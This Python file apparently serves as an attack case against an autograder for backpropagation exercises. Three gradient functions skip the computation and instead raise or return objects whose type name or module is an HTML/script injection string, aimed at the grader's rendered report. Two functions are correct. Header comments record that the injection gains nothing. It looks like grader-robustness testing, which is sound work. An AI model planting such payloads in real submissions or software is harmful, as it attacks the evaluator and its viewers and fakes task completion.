# attack: M1 HTML in the names of types: of what is raised, and of what is returned
# gains nothing: grad_b2, grad_W2, grad_hs
# full marks: grad_oa, grad_ha
import numpy as np
TAG = "<script>alert('pwned')</script><img src=x onerror=pwned>"


def grad_b2(grad_oa):
    raise type(TAG, (Exception,), {})(TAG)


def grad_W2(grad_oa, hs):
    return type(TAG, (), {})()


def grad_hs(grad_oa, W2):
    return type("array", (), {"__module__": TAG})()


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
